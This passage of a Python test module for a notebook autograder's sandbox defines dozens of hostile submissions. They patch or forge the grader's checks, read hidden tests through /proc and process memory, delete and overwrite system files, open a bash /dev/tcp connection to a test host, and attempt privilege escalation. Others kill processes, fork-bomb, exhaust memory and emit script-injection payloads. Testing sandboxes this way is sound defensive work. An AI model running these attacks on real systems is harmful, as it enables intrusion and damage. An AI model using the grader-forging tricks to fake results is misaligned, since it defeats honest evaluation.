"""Hostile submissions, one small function each; its docstring says what it tries.

A function marked `cell` is the text of a cell: its body stands where an answer is due.  One marked `file` is called
with the place of the notebook file and an honest notebook, and gives what stands in that file: a dict (written as
JSON), text or bytes; None if it has put something there itself.

Every submission answers `scaled_lr` before the place of the attack and `polynomial_decay` behind it, honestly, for two
points each, and `earns` says what is due to it.  Code prints BREACH where something worked that must not.  In a cell
`host` says where things lie outside, and on which doors somebody listens.
"""
# ruff: noqa: F821, F841, B018

import ast
import copy
import inspect
import json
import os
import socket
import textwrap
from dataclasses import dataclass
from typing import Any

from course.checks import rules

UNIT = "03_large_batch"
GIVEN = ["import torch", "from course.checks import large_batch as check"]  # what the setup cell imports
EXERCISES = "leave_one_out", "sample_negatives", "scaled_lr", "linear_warmup", "polynomial_decay"
SOLVED = "scaled_lr", "polynomial_decay"
GIB = 2**30
ENDED, LATE, LARGE = "ended by itself", "no answer within", "of memory"


@dataclass
class Attack:
    """One hostile submission: what is due to it, None if it is none at all, and the reason that must be given."""

    make: Any
    earns: float | None
    note: str
    forges: bool  # it makes up facts in the learner's own process
    is_file: bool
    at: str = ""


ATTACKS = {}


def cell(earns=4, note="", at="linear_warmup", forges=False):
    def mark(function):
        ATTACKS[function.__name__] = Attack(function, earns, note, forges, False, at)
        return function

    return mark


def file(earns=4, note=""):
    def mark(function):
        ATTACKS[function.__name__] = Attack(function, earns, note, False, True)
        return function

    return mark


def source(attack, host):
    """The text of the cell that the body of the function is."""
    text = textwrap.dedent(inspect.getsource(attack.make))
    body = ast.parse(text).body[0].body[1:]
    lines = text.splitlines()[body[0].lineno - 1 :]
    text = f"host = {host!r}\n" * ("host" in text) + textwrap.dedent("\n".join(lines)) + "\n"
    if rules.reaching(text, GIVEN):  # hidden from those who read it: here the wall is tested, not the fence
        return f"get_ipython().run_cell(bytes.fromhex('{text.encode().hex()}').decode())"
    return text


def hand_in(name, folder, honest, host):
    """None; the submission `name` lies in its folder in the inbox `folder`, made from the notebook `honest`."""
    attack, notebook = ATTACKS[name], copy.deepcopy(honest)
    place = folder / name / UNIT / f"{UNIT}.ipynb"
    place.parent.mkdir(parents=True)
    if attack.is_file:
        made = attack.make(place, notebook)
    else:
        by_id(notebook)[attack.at]["source"] = source(attack, host)
        made = notebook
    if isinstance(made, dict):
        made = json.dumps(made)
    if made is not None:
        place.write_bytes(made.encode() if isinstance(made, str) else made)


def by_id(notebook):
    return {c["metadata"]["nbgrader"]["grade_id"]: c for c in notebook["cells"] if "nbgrader" in c["metadata"]}


def extra(text, **metadata):
    return {"cell_type": "code", "id": "mine", "metadata": metadata, "source": text, "outputs": [],
            "execution_count": None}  # fmt: skip


# ---- the file


@file(0, "could not be read.*no notebook")
def empty(place, honest):
    """Nothing in the file."""
    return b""


@file(0, "no notebook")
def not_json(place, honest):
    """Python instead of a notebook."""
    return "import os\nos._exit(0)\n"


@file(0, "no notebook")
def binary(place, honest):
    """Bytes that are no text."""
    return bytes(range(256)) * 100


@file(0, "no notebook")
def utf_16(place, honest):
    """Text in another encoding."""
    return json.dumps(honest).encode("utf-16")


@file()
def byte_order_mark(place, honest):
    """A mark in front, as some editors put it: still a notebook."""
    return b"\xef\xbb\xbf" + json.dumps(honest).encode()


@file(0, "no notebook")
def deep_json(place, honest):
    """A nest that a parser falls into."""
    return "[" * 1_000_000


@file(0, "no notebook")
def deep_json_in_a_cell(place, honest):
    """A nest in the metadata of a cell."""
    honest["cells"][1]["metadata"] = "HERE"
    return json.dumps(honest).replace('"HERE"', '{"a":' * 100_000 + "1" + "}" * 100_000)


@file(0, "at most")
def huge_json(place, honest):
    """More bytes than anybody needs."""
    return json.dumps(honest) + " " * 60_000_000


@file(0, "no notebook|at most")
def many_small_things(place, honest):
    """A file that takes 25 times its size in memory."""
    return b'{"cells": 1, "x": [' + b'{"":0},' * 2_700_000 + b"0]}"


@file(0, "no notebook")
def number_too_long(place, honest):
    """An integer with more digits than Python reads."""
    return '{"cells": ' + "1" * 100_000 + "}"


@file(0, "no notebook")
def json_list(place, honest):
    """A list instead of an object."""
    return json.dumps(honest["cells"])


@file(0, "no notebook")
def notebook_of_version_3(place, honest):
    """The format of 2013, where cells lie in worksheets."""
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": honest["cells"]}]}


@file()
def notebook_of_version_99(place, honest):
    """A format that does not exist."""
    return honest | {"nbformat": 99, "nbformat_minor": -1}


@file()
def cells_of_every_kind(place, honest):
    """Cells that are none, sources that are none, ids that are none."""
    odd = [None, 3, [], "cell", {}, {"source": 5}, {"source": ["a", 1], "metadata": []}]
    odd += [extra("1 / 0", nbgrader=name) for name in (None, 3, {"grade_id": {}}, {"grade_id": ["x"]})]
    odd += [{**extra("pass"), "id": {}}, {**extra("pass"), "cell_type": None}, extra("pass", tags="experiment")]
    honest["cells"] = [*odd, *honest["cells"], *odd]
    return honest


@file()
def lone_surrogates(place, honest):
    """Halves of characters, which no file can hold."""
    honest["cells"].insert(3, extra("print('\ud800')  # \udfff"))
    by_id(honest)["linear_warmup"]["source"] = "linear_warmup = lambda *a, **k: '\ud800'"
    return honest


@file()
def nul_bytes(place, honest):
    """Characters that end a string in C."""
    honest["cells"].insert(3, extra("print('a\0b')"))
    return honest


@file(0, "no ordinary file|links are not followed")
def link_to_passwd(place, honest):
    """A link to a file of the machine."""
    place.symlink_to("/etc/passwd")


@file(0, "links are not followed")
def link_to_another_learner(place, honest):
    """A link to the work of somebody else."""
    place.symlink_to(place.parents[2] / "a_honest" / UNIT / place.name)


@file(None)
def folder_linked_to_another_learner(place, honest):
    """The same with the whole folder."""
    place.parent.rmdir()
    place.parent.symlink_to(place.parents[2] / "a_honest" / UNIT)


@file(0, "no ordinary file")
def named_pipe(place, honest):
    """A file that nobody writes to, so that reading waits for ever."""
    os.mkfifo(place)


@file(0, "no ordinary file|cannot be read")
def unix_socket(place, honest):
    """A file that is a socket."""
    here = os.getcwd()
    os.chdir(place.parent)  # a socket's path is short
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(place.name)
    os.chdir(here)


@file(0, "Is a directory")
def folder_as_notebook(place, honest):
    """A folder with the notebook's name."""
    place.mkdir()


@file(0, "there is no file")
def folder_without_notebook(place, honest):
    """Nothing handed in but the folder."""


@file()
def several_notebooks(place, honest):
    """More notebooks, with other names and in other places: the one with the right name counts."""
    text = json.dumps(honest).replace("def ", "1 / 0\\ndef ")
    for other in ("copy.ipynb", "nbgrader_config.py", "sitecustomize.py", "torch.py"):
        (place.parent / other).write_text(text)
    (place.parents[1] / place.name).write_text(text)
    return honest


@file()
def own_time(place, honest):
    """A time of its own making, as nbgrader reads it from the submission."""
    (place.parent / "timestamp.txt").write_text("2000-01-01 00:00:00 UTC")
    return honest


# ---- the notebook


@file()
def tags(place, honest):
    """Metadata that makes nbgrader and nbclient skip tests."""
    for one in honest["cells"]:
        one["metadata"]["tags"] = ["skip-execution", "experiment", "raises-exception", "remove-cell"]
    return honest


@file()
def more_points(place, honest):
    """A hundred points for each test, and marks that make them given by hand."""
    for one in by_id(honest).values():
        one["metadata"]["nbgrader"] |= {"points": 100, "locked": False, "solution": True, "grade": True, "task": True}
    return honest


@file()
def other_schema(place, honest):
    """A version of nbgrader's metadata that does not exist."""
    for one in by_id(honest).values():
        one["metadata"]["nbgrader"]["schema_version"] = 99
    return honest


@file()
def tests_edited(place, honest):
    """Tests that test nothing."""
    for name, one in by_id(honest).items():
        if name.endswith(("-visible", "-hidden")):
            one["source"] = "pass"
    return honest


@file()
def tests_removed(place, honest):
    """No tests at all."""
    tests = [one for name, one in by_id(honest).items() if name.endswith(("-visible", "-hidden"))]
    honest["cells"] = [one for one in honest["cells"] if one not in tests]
    return honest


@file()
def tests_before_answers(place, honest):
    """All cells in reverse order."""
    honest["cells"].reverse()
    return honest


@file()
def everything_twice(place, honest):
    """Duplicated cells, over which plain nbgrader stops the whole batch."""
    honest["cells"] *= 2
    return honest


@file()
def right_answer_in_a_second_copy(place, honest):
    """The untouched stub, then the answer under the same id, then nonsense: the first edited one counts."""
    for name in SOLVED:
        answer = by_id(honest)[name]
        at = honest["cells"].index(answer)
        stub = {**answer, "source": honest["metadata"]["stubs"][name]}
        honest["cells"][at : at + 1] = [stub, answer, {**answer, "source": "1 / 0"}]
    return honest


@file()
def tests_become_answers(place, honest):
    """A test's id on a cell of its own, marked as a solution."""
    for name in ("linear_warmup-visible", "linear_warmup-hidden"):
        by_id(honest)[name].update(source="check.linear_warmup = print", metadata={
            "nbgrader": {"grade_id": name, "solution": True, "grade": False, "locked": False}})  # fmt: skip
    return honest


@file()
def other_cell_kinds(place, honest):
    """Tests as text; the answers as text and raw."""
    for name, one in by_id(honest).items():
        one["cell_type"] = "markdown" if name.endswith(("-visible", "-hidden")) else "raw"
    return honest


@file()
def outputs_with_scores(place, honest):
    """Outputs as a test leaves them that gives a share of the points."""
    for one in by_id(honest).values():
        one["outputs"] = [{"output_type": "execute_result", "data": {"text/plain": "2.0"}, "metadata": {},
                           "execution_count": 1}]  # fmt: skip
    return honest


@file()
def another_kernel(place, honest):
    """A kernel that runs what the submission names."""
    honest["metadata"] = {
        "kernelspec": {"name": "bash", "language": "bash", "argv": ["touch", "/tmp/x"], "display_name": "x"}
    }
    return honest


@file()
def same_ids(place, honest):
    """Cells of its own with the ids of the grader's."""
    ids = "extra-000", "grader-note", "setup", "scaled_lr", "scaled_lr-hidden"
    honest["cells"] += [{**extra("print(1)"), "id": name} for name in ids]
    return honest


@file()
def thousands_of_cells(place, honest):
    """More cells than anybody reads."""
    honest["cells"] += [{**extra(f"x = {number}"), "id": f"c{number}"} for number in range(5000)]
    return honest


@file()
def long_cell(place, honest):
    """A cell of 10 MB."""
    honest["cells"].insert(3, extra("x = 1\n" * 1_600_000))
    return honest


@file()
def nested_source(place, honest):
    """Python that its own parser falls into."""
    honest["cells"].insert(3, extra("(" * 90_000 + ")" * 90_000))
    honest["cells"].insert(3, extra("-" * 90_000 + "1"))
    return honest


@file()
def setup_replaced(place, honest):
    """Given cells that do something else."""
    by_id(honest)["setup"]["source"] = "check = print"
    return honest


# ---- the grader's own tools, patched


@cell()
def patches_the_check():
    """The check agrees with all."""
    check.linear_warmup = lambda *args, **kwargs: None


@cell()
def patches_the_comparison():
    """Nothing differs any more."""
    from course.checks import compare, engine

    compare.differs = engine.differs = lambda *args: None
    engine.Exercise.verdict = lambda *args, **kwargs: engine.Verdict(True, ["correct"])
    engine.CheckFailed = KeyboardInterrupt
    linear_warmup = print


FORGED = """
import inspect, re
text = inspect.getsource(check.sample_negatives.probe)
def forged(seed):
    facts = {fact: True for fact in re.findall(r'yield "(.*?)",', text)}
    form = {"dtype": "torch.int64", "shape": (600 + seed % 13,), "device": "cpu"}
    return facts | {"returns one whole number for each row": form,
                    "an empty batch gives an empty answer": [((0,), "torch.int64")]}
"""


@cell(at="sample_negatives", forges=True)
def forges_the_outcome():
    """The engine in its own process says that all laws hold."""
    exec(host["forged"])
    from course.checks import engine

    honest = engine.Exercise.outcome

    def outcome(self, answer, device, seed, *args, **kwargs):
        forges = self.name == "sample_negatives"
        return engine.Outcome(forged(seed)) if forges else honest(self, answer, device, seed, *args, **kwargs)

    engine.Exercise.outcome = outcome
    sample_negatives = print


@cell(at="sample_negatives", forges=True)
def forges_the_probe():
    """The probe itself is replaced."""
    exec(host["forged"])
    check.sample_negatives.probe = lambda answer, device, seed: iter(forged(seed).items())
    sample_negatives = print


@cell(at="sample_negatives", forges=True)
def forges_the_message():
    """What packs messages packs another one."""
    exec(host["forged"])
    import sys

    kernel = sys.modules["__main__"]
    packs = kernel.pack

    def pack(message):
        if isinstance(message, dict) and "found 3" in str(message.get("refused")):
            seed = sys._getframe(1).f_locals["seed"]
            message = {"facts": forged(seed), "raised": None, "printed": "", "refused": None}
        return packs(message)

    kernel.pack = pack
    sample_negatives = 3


@cell(note="not asked for", at="sample_negatives", forges=True)
def forges_what_the_channel_says():
    """Its own messages stand in the channel before those of the kernel."""
    exec(host["forged"])
    import os

    from course.checks.wire import pack

    messages = [{"done": True}]
    messages += [{"facts": forged(seed), "raised": None, "printed": "", "refused": None} for seed in (0, 5031)]
    for message in messages:
        data = pack(message)
        os.write(200, len(data).to_bytes(8, "little") + data)


@cell(at="sample_negatives", forges=True)
def replaces_modules():
    """Another module under the name of the checks."""
    exec(host["forged"])
    import sys
    import types

    from course.checks.engine import Outcome

    class Forged:
        def outcome(self, answer, device, seed, *args, **kwargs):
            return Outcome(forged(seed))

    real = sys.modules["course.checks.large_batch"]
    fake = types.ModuleType(real.__name__)
    vars(fake).update(vars(real), sample_negatives=Forged())
    sys.modules["course.checks.large_batch"] = fake
    sample_negatives = print


@cell(at="sample_negatives", forges=True)
def patches_torch():
    """Zeros are an answer where `bool`, `int`, torch.equal and methods of tensors agree with all."""
    check.bool = lambda value: True
    check.int = type("int", (type,), {"__instancecheck__": lambda self, value: False, "__call__": lambda *args: 0})(
        "int", (), {}
    )
    torch.equal = lambda a, b: len(a) <= 40 or a.dtype == torch.uint8
    torch.Tensor.any = lambda self, *args: False
    torch.Tensor.unique = lambda self, *args: [1, 2]

    def sample_negatives(users, seen, generator=None):
        return torch.zeros_like(users)


@cell(at="sample_negatives", forges=True)
def tensors_that_agree():
    """A subclass of Tensor whose every comparison holds."""

    class Yes(torch.Tensor):
        @classmethod
        def __torch_function__(cls, function, types, args=(), kwargs=None):
            with torch._C.DisableTorchFunctionSubclass():
                name = getattr(function, "__name__", "")
                if name == "equal":
                    return len(args[0]) <= 40
                if name == "sum":
                    return len(args[0]) / 2 if args[0].is_floating_point() else 0
                if name == "any":
                    return False
                if name in ("unique", "bincount"):
                    return torch.ones(kwargs.get("minlength", 2)).as_subclass(Yes)
                result = function(*args, **kwargs or {})
                if name in ("__lt__", "__gt__", "__ge__", "all", "eq", "lt", "gt"):
                    result = torch.ones_like(result)
                return result.as_subclass(Yes) if isinstance(result, torch.Tensor) else result

    def sample_negatives(users, seen, generator=None):
        return torch.zeros_like(users).as_subclass(Yes)


@cell(at="leave_one_out")
def tensors_that_change():
    """A subclass of Tensor that gives itself for all that is done with it."""

    class Same(torch.Tensor):
        @classmethod
        def __torch_function__(cls, function, types, args=(), kwargs=None):
            return args[0]

    def leave_one_out(users, timestamps):
        return (torch.zeros_like(users).bool().as_subclass(Same),) * 2


@cell()
def numbers_that_agree():
    """Numbers, texts and lists that are equal to everything."""

    def agrees(kind):
        always = dict.fromkeys(("__eq__", "__le__", "__ge__", "__bool__"), lambda *args: True)
        zero = dict.fromkeys(("__sub__", "__rsub__", "__abs__"), lambda *args: 0.0)
        return type("float", (kind,), always | zero | {"__hash__": kind.__hash__, "__len__": lambda self: 10**9})

    def linear_warmup(step, *args):
        return agrees((float, int, str, list, dict, complex)[step % 6])()


@cell(at="leave_one_out")
def lists_that_lie():
    """A list whose length is what is asked for."""

    class Liar(list):
        def __len__(self):
            return 2

        def __iter__(self):
            return iter([1, 2])

    def leave_one_out(users, timestamps):
        return Liar()


@cell()
def patches_time():
    """Clocks that stand still while the answer runs on."""
    import time

    for name in ("monotonic", "time", "perf_counter"):
        setattr(time, name, lambda: 0.0)

    def linear_warmup(*args):
        while True:
            pass


# ---- looking for what is secret


@cell()
def asks_for_the_reference():
    """The course package gives the reference away."""
    import course

    for ask in (check.linear_warmup.reference, lambda: course.solved(check.linear_warmup), check.linear_warmup.mistakes,
                lambda: check.linear_warmup.expected(torch.device("cpu"), 88)):  # fmt: skip
        try:
            print("BREACH", ask())
            linear_warmup = ask()
        except Exception as error:
            print(type(error))


@cell()
def takes_answers_from_the_package():
    """A function of the package with the name of an exercise."""
    import importlib
    import pkgutil

    import course

    names = "leave_one_out", "sample_negatives", "linear_warmup"
    for found in pkgutil.walk_packages(course.__path__, "course."):
        try:
            module = importlib.import_module(found.name)
        except Exception:
            continue
        for name in names:
            answer = getattr(module, name, None)
            if callable(answer) and type(answer).__name__ != "Exercise":
                print("BREACH", found.name, name)
                globals()[name] = answer


@cell()
def reads_the_course():
    """Masters, gradebook, inbox and hidden tests from the disk."""
    import glob
    import os

    for place in (*host["places"], *host["secrets"]):
        if os.path.exists(place):
            print("BREACH", place)
    for pattern in ("solutions", "mistakes", "*.ipynb", "gradebook.db", ".git"):
        for depth in range(5):
            for found in glob.glob("/*" * depth + "/" + pattern):
                if not found.startswith(("/proc", "/sys", "/usr")):
                    print("BREACH", found)


@cell()
def reads_through_proc():
    """The files of other processes by way of /proc."""
    import os

    for number in filter(str.isdecimal, os.listdir("/proc")):
        for way in ("root", "cwd"):
            for place in (*host["places"], *host["secrets"]):
                if os.path.exists(f"/proc/{number}/{way}{place}"):
                    print("BREACH", number, place)
        try:
            with open(f"/proc/{number}/cmdline") as words:
                if "course.grading.grade" in words.read():
                    print("BREACH", number)
        except OSError:
            pass
        try:
            with open(f"/proc/{number}/mem", "r+b", 0) as memory:
                print("BREACH" * (number == "1"), number)  # that holds the room; others are its own
        except OSError:
            pass


@cell()
def searches_its_memory():
    """Texts of masters and hidden tests in the memory it was forked with."""
    import re

    words = re.compile(rb"BEGIN [H]IDDEN TESTS|seed=[1]708|ones_like\(users\)[.]cumsum")  # does not match itself
    with open("/proc/self/maps") as lines, open("/proc/self/mem", "rb", 0) as memory:
        for line in lines:
            span, rights, _, _, inode = line.split()[:5]
            if "rw" not in rights or inode != "0":
                continue
            start, end = (int(part, 16) for part in span.split("-"))
            try:
                memory.seek(start)
                data = memory.read(min(end - start, 2**27))
            except OSError:
                continue
            print("BREACH " * len(words.findall(data)))


@cell()
def searches_its_objects():
    """The reference among all objects there are."""
    import gc
    import types

    for thing in gc.get_objects():
        if isinstance(thing, types.ModuleType) and thing.__name__.startswith(("solutions", "course.grading.grade")):
            print("BREACH", thing)
        if isinstance(thing, types.FunctionType) and "/solutions/" in thing.__code__.co_filename:
            print("BREACH", thing)


@cell(forges=True)
def tells_the_hidden_seed():
    """The seed of the hidden test, from a frame of the probe, in the report that feedback shows."""
    import sys

    def linear_warmup(*args):
        frame = sys._getframe()
        while frame:
            if frame.f_locals.get("seed"):
                raise ValueError(f"BREACH: the hidden seed is {frame.f_locals['seed']}")
            frame = frame.f_back
        return 1.0


@cell()
def looks_at_the_environment():
    """Secrets of the grader's user in environment variables."""
    import os

    if os.environ.get("HOSTILE_SECRET") or "HOSTILE_SECRET" in open("/proc/self/environ").read():
        print("BREACH")
    if os.getuid() == 0:
        print("BREACH: root")


# ---- doing harm outside


@cell()
def writes_everywhere():
    """Into the home, the course, the gradebook, the inbox, the package."""
    import os

    import course

    places = [*host["places"], course.__file__, torch.__file__, "/etc/passwd", "/usr/bin/python3"]
    places += [os.path.join(place, "sitecustomize.py") for place in host["places"]]
    for place in places:
        try:
            with open(place, "a") as file:
                file.write(host["token"])
            print("BREACH", place)
        except OSError:
            pass
        try:
            os.remove(place)
            print("BREACH", place)
        except OSError:
            pass


@cell()
def writes_with_other_programs():
    """The same in a shell, by way of IPython."""
    for place in host["places"]:
        get_ipython().system(f"rm -rf {place}; echo x > {place} && echo BREACH")
    get_ipython().run_cell_magic("bash", "", "find / -name canary -delete -printf 'BREA''CH %p' 2> /dev/null || true")


@cell()
def leaves_something_behind():
    """Files, shared memory and semaphores for the next learner."""
    import ctypes
    import os

    for place in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~")):
        try:
            with open(f"{place}/{host['token']}", "w") as file:
                file.write("#!/bin/sh\n")
        except OSError:
            pass
    ctypes.CDLL(None).shmget(host["key"], 4096, 0o1666)


@cell()
def takes_what_was_left():
    """What the one before has left."""
    import ctypes
    import os

    for place in ("/tmp", "/dev/shm", "/var/tmp", "/run"):
        if os.path.exists(f"{place}/{host['token']}"):
            print("BREACH", place)
    if ctypes.CDLL(None).shmget(host["key"], 4096, 0o666) != -1:
        print("BREACH: shared memory")


@cell()
def calls_the_network():
    """TCP, UDP and sockets of the machine, also those without a file."""
    import socket

    socket.setdefaulttimeout(0.3)
    for address in host["addresses"]:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with socket.socket(socket.AF_INET, kind) as client:
                try:
                    client.connect((address, host["port"]))
                    client.send(b"BREACH")
                    if kind == socket.SOCK_STREAM:
                        print("BREACH", address)
                except OSError:
                    pass
    for address in (host["socket"], "\0" + host["token"]):
        with socket.socket(socket.AF_UNIX) as client:
            try:
                client.connect(address)
                client.send(b"BREACH")
                print("BREACH", address)
            except OSError:
                pass


@cell()
def calls_the_network_with_other_programs():
    """Names, pages and packages from outside."""
    import subprocess
    import urllib.request

    for ask in (lambda: urllib.request.urlopen(f"http://{host['addresses'][0]}:{host['port']}/", timeout=0.3),
                lambda: __import__("socket").getaddrinfo("example.org", 80)):  # fmt: skip
        try:
            print("BREACH", ask())
        except OSError:
            pass
    call = f"exec 3<>/dev/tcp/{host['addresses'][0]}/{host['port']} && echo BREACH"
    print(subprocess.run(["bash", "-c", call], capture_output=True, text=True, timeout=3).stdout)


@cell()
def listens():
    """A server of its own."""
    import socket

    server = socket.create_server(("0.0.0.0", host["port"]))


@cell()
def becomes_root():
    """Every way to more rights that a user may try."""
    import ctypes
    import resource
    import subprocess

    libc = ctypes.CDLL(None, use_errno=True)
    tries = {
        "user namespace": lambda: libc.unshare(0x10000000),
        "mount namespace": lambda: libc.unshare(0x00020000),
        "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
        "ptrace": lambda: libc.ptrace(16, 1, 0, 0),
        "chroot": lambda: libc.chroot(b"/tmp"),
        "setuid": lambda: libc.setuid(0),
        "setgroups": lambda: libc.setgroups(1, (ctypes.c_uint * 1)(0)),
        "keyring of others": lambda: libc.syscall(250, 0, 0, 0) if False else -1,
        "host name": lambda: libc.sethostname(b"x", 1),
        "clock": lambda: libc.clock_settime(0, (ctypes.c_long * 2)(0, 0)),
        "reboot": lambda: libc.reboot(0),
    }
    for name, attempt in tries.items():
        if attempt() != -1:
            print("BREACH", name)
    for name, kind in (("files", resource.RLIMIT_NOFILE), ("processes", resource.RLIMIT_NPROC)):
        try:
            resource.setrlimit(kind, (10**6, 10**6))
            print("BREACH", name)
        except (ValueError, OSError):
            pass
    for path in ("/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj", "/sys/power/state"):
        try:
            with open(path, "w") as file:
                file.write("-1000")
            print("BREACH", path)
        except OSError:
            pass
    for call in ("su -c id", "sudo -n id", "unshare -r id", "bwrap --dev-bind / / --uid 0 id", "nsenter -t 1 -a id"):
        done = subprocess.run(call.split()[:1] and ["sh", "-c", call], stdin=subprocess.DEVNULL, capture_output=True)
        print("BREACH" * (b"uid=0" in done.stdout), call)


@cell()
def kills_everything_else():
    """SIGKILL for every process that it can name, the first of its world among them."""
    import os
    import signal

    for number in range(1, 500):
        if number != os.getpid():
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass


@cell()
def leaves_processes():
    """Daemons that live on when the check is over."""
    import os
    import subprocess
    import time

    subprocess.Popen(["sleep", host["sleep"]], start_new_session=True)
    if not os.fork():
        os.setsid()
        if not os.fork():
            os.closerange(0, 300)
            time.sleep(1000)
        os._exit(0)


# ---- ending, hanging


@cell(2, ENDED)
def ends_its_process():
    """os._exit in a cell: what was answered before counts."""
    import os

    os._exit(0)


@cell()
def ends_by_exception():
    """sys.exit in a cell is an exception like others."""
    import sys

    sys.exit(1)


@cell()
def ends_in_an_answer():
    """os._exit in an answer costs this one only."""
    import os

    def linear_warmup(*args):
        os._exit(0)


@cell()
def exits_in_an_answer():
    """sys.exit in an answer."""

    def linear_warmup(*args):
        raise SystemExit


@cell(2, ENDED)
def crashes():
    """A segmentation fault in a cell."""
    import ctypes

    ctypes.string_at(0)


@cell()
def crashes_in_an_answer():
    """A segmentation fault in an answer."""
    import ctypes

    def linear_warmup(*args):
        ctypes.string_at(0)


@cell(2, ENDED)
def recursion_without_end():
    """Python's own limit taken away."""
    import sys

    sys.setrecursionlimit(10**9)

    class Deep:
        def __repr__(self):
            return repr([self])

    repr(Deep())


@cell()
def recursion_in_an_answer():
    """An answer that calls itself."""

    def linear_warmup(*args):
        return linear_warmup(*args)


@cell(2, LATE)
def stops_itself():
    """SIGSTOP: it neither ends nor goes on."""
    import os
    import signal

    os.kill(os.getpid(), signal.SIGSTOP)


@cell(2, LATE)
def stops_its_parent_in_an_answer():
    """SIGSTOP for the process that waits for the answer."""
    import os
    import signal

    def linear_warmup(*args):
        os.kill(os.getppid(), signal.SIGSTOP)


@cell()
def loops_in_a_cell():
    """A cell that does not end is stopped, and the next one runs."""
    while True:
        pass


@cell(2, LATE)
def loops_and_swallows():
    """Whatever is raised to stop it is swallowed."""
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


@cell(2, LATE)
def loops_without_alarm():
    """The alarm that is to stop it is switched off."""
    import signal

    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        pass


@cell()
def loops_in_an_answer():
    """An answer that does not end, and swallows what is raised to stop it."""

    def linear_warmup(*args):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass


@cell(2, LATE)
def holds_the_interpreter():
    """A sum in C that no signal reaches before its end."""
    sum(range(10**12))


@cell()
def holds_the_interpreter_in_an_answer():
    """The same in an answer."""

    def linear_warmup(*args):
        return sum(range(10**12))


@cell(2, LATE)
def drips():
    """A little output each moment, so that something always comes."""
    import signal
    import time

    signal.setitimer(signal.ITIMER_REAL, 0)
    while True:
        display("still here")
        time.sleep(0.2)


@file(0, "together")
def many_cells_that_loop(place, honest):
    """Each cell is stopped, and the next one loops."""
    honest["cells"][3:3] = [extra(f"{number}\nwhile True: pass") for number in range(100)]
    return honest


@cell()
def asks_for_input():
    """Somebody at the keyboard is waited for."""
    linear_warmup = input
    input("name: ")


# ---- taking all there is


@cell(2, f"{ENDED}|{LATE}|{LARGE}")
def forks_without_end():
    """Processes until there is no room for more."""
    import os
    import time

    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(1000)


@cell()
def threads_without_end():
    """Threads until there is no room for more."""
    import threading
    import time

    try:
        while True:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except RuntimeError:
        pass


@cell(2, LARGE)
def takes_memory():
    """Bytes without end."""
    taken = []
    while True:
        taken.append(b"x" * 2**24)


@cell(2, LARGE)
def takes_memory_under_a_name_that_is_no_text():
    """A name in /proc that no text can hold, where the grader reads how large the process is."""
    import ctypes

    ctypes.CDLL(None).prctl(15, b"\xff", 0, 0, 0)
    taken = []
    while True:
        taken.append(b"x" * 2**24)


@cell()
def takes_memory_at_once():
    """A tensor of 4 TB."""
    torch.ones(2**40)


@cell(2, LARGE)
def takes_memory_as_files():
    """Files in memory, in both places where one may write."""
    import os
    import time

    for place in ("/tmp", "/dev/shm"):
        with open(f"{place}/large", "wb") as file:
            os.posix_fallocate(file.fileno(), 0, host["large"] // 2)
    time.sleep(1)
    print("BREACH")


@cell(4)
def takes_memory_without_a_place():
    """Memory that belongs to no process: files without a name and segments of System V."""
    import ctypes
    import os

    libc = ctypes.CDLL(None)
    try:
        with os.fdopen(os.memfd_create("large"), "wb") as file:
            for _ in range(host["large"] // 2**24):
                file.write(b"x" * 2**24)
            print("BREACH: memfd")
    except OSError:
        pass
    for _ in range(host["large"] // 2**24):
        segment = libc.shmget(0, 2**24, 0o1600)
        if segment == -1:
            break
        libc.shmat.restype = ctypes.c_void_p
        place = libc.shmat(segment, None, 0)
        ctypes.memset(place, 1, 2**24)
        libc.shmdt(ctypes.c_void_p(place))
    else:
        print("BREACH: System V")


@cell(2, LARGE)
def takes_memory_as_shared_mapping():
    """Memory that is no process's own."""
    import mmap
    import time

    shared = mmap.mmap(-1, host["large"])
    while shared.tell() < len(shared):
        shared.write(bytes(2**20))
    time.sleep(1)
    print("BREACH")


@cell()
def takes_descriptors():
    """Open files until there is no room for more."""
    taken = []
    try:
        while True:
            taken.append(open("/dev/null"))
    except OSError:
        del taken


@cell(2, ENDED)
def keeps_descriptors():
    """The same, kept: no pipe can be made for the next check."""
    import os

    try:
        while True:
            os.open("/dev/null", 0)
    except OSError:
        pass


# ---- saying too much


@cell()
def prints_without_end():
    """Text without end."""
    while True:
        print("x" * 100_000)


@cell()
def prints_without_end_in_an_answer():
    """Text without end, where it is kept for the report."""

    def linear_warmup(*args):
        while True:
            print("x" * 100_000)


@cell()
def writes_to_descriptors():
    """Text that goes around Python."""
    import os
    import subprocess

    for _ in range(100):
        os.write(1, b"x" * 10**6)
        os.write(2, b"x" * 10**6)
    subprocess.run("head -c 300000000 /dev/zero", shell=True)


@cell()
def shows_something_huge():
    """One output of 100 MB."""
    display({"text/plain": "x" * 10**8}, raw=True)
    display({"image/png": "x" * 10**8, "text/html": "x" * 10**8}, raw=True)


@cell()
def shows_thousands():
    """Thousands of outputs."""
    for _ in range(3000):
        display("x" * 1000)


@cell()
def shows_scripts():
    """Outputs that run in the browser of whoever looks."""
    for kind in ("text/html", "application/javascript", "image/svg+xml", "text/latex", "text/markdown", "image/png"):
        display({kind: "<svg onload=alert(1)><script>alert(1)</script>"}, raw=True)
    print("\x1b]0;title\x07\x1b[2J\x9b31m <script>alert(1)</script>")
    raise ValueError("\x1b[2J<script>alert(1)</script>")


@cell()
def raises_something_huge():
    """A message of 100 MB, in a cell and in an answer."""

    def linear_warmup(*args):
        raise ValueError("x" * 10**8)

    raise type("E" * 10**6, (Exception,), {})("x" * 10**8)


@cell()
def raises_what_cannot_be_shown():
    """An exception without a text, in a cell and in an answer."""

    class Silent(BaseException):
        def __str__(self):
            raise self

        __repr__ = __str__

    def linear_warmup(*args):
        raise Silent

    raise Silent


@cell()
def raises_what_never_ends():
